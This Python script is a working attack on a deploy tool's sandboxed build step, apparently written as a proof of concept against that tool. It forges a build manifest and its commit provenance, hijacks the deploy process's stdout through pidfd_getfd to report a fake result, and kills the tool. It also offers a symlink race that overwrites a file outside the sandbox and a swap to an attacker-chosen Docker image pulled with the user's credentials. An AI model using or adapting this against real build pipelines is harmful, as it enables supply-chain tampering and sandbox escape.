"""The attack of a build command: writes a build of its own, and prints in the name of the deploy tool that it was built
from other inputs. Arguments: the digest of these inputs, and a commit to name instead of the own one. Or `--escape` and
a file outside of the sandbox, which the build overwrites through a link where the deployment unpacks it. Or `--image` and
an image of Docker, which the deployment would pull with the user's credentials."""

import ctypes
import hashlib
import json
import os
import signal
import subprocess
import sys

# System calls of Linux on x86-64 and arm64.
PIDFD_OPEN, PIDFD_GETFD = 434, 438

inputs, *named = sys.argv[1:]
outside = named.pop() if inputs == "--escape" else None
image = named.pop() if inputs == "--image" else None


def command_line(process):
    with open(f"/proc/{process}/cmdline") as file:
        return file.read().split("\0")


def parent(process):
    with open(f"/proc/{process}/stat") as file:
        return int(file.read().rsplit(")", 1)[1].split()[1])


tool = os.getppid()
while "deploy/deploy.ts" not in command_line(tool) or command_line(tool)[0] == "bwrap":
    tool = parent(tool)
options = command_line(tool)


def option(name):
    return options[options.index(name) + 1]


git = ["git", "-C", option("--source"), "rev-parse", "HEAD"]
commit = named[0] if named else subprocess.check_output(git, text=True).strip()
directory = option("--output")
os.makedirs(f"{directory}/files", exist_ok=True)


def store(path, content):
    sha256 = hashlib.sha256(content).hexdigest()
    with open(f"{directory}/files/{sha256}", "wb") as file:
        file.write(content)
    return {"path": path, "sha256": sha256, "bytes": len(content)}


application = [{**store("manage.py", b"evil"), "type": "file"}]
if outside is not None:
    # The others give the link time to be written first.
    others = [{**store(f"hat/assets/webpack/{number}.js", b"evil"), "type": "file"} for number in range(64)]
    link = {**store("hat/assets/webpack/a.js", outside.encode()), "type": "link"}
    application = [link, *others, {**store("hat/assets/webpack/a.js", b"evil"), "type": "executable"}]
build = {
    "version": commit[:12],
    "commit": commit,
    "dirty": False,
    "platform": option("--platform"),
    "plugins": [name for name in option("--plugins").split(",") if name],
    "application": application,
    "static": [store("app.js", b"evil")],
    "wheels": [],
}
if image is not None:
    paths = {"directory": "/opt/app", "staticDirectory": "/opt/app/static"}
    build.update(platform="docker", application=[], static=[], image={"name": image, "proxy": image, **paths})
text = json.dumps(build).encode()
with open(f"{directory}/build.json", "wb") as file:
    file.write(text)
answer = {"sha256": hashlib.sha256(text).hexdigest(), "inputs": inputs, "times": []}
libc = ctypes.CDLL(None)
output = libc.syscall(PIDFD_GETFD, libc.syscall(PIDFD_OPEN, tool, 0), 1, 0)
os.write(output, json.dumps(answer).encode())
os.kill(tool, signal.SIGKILL)
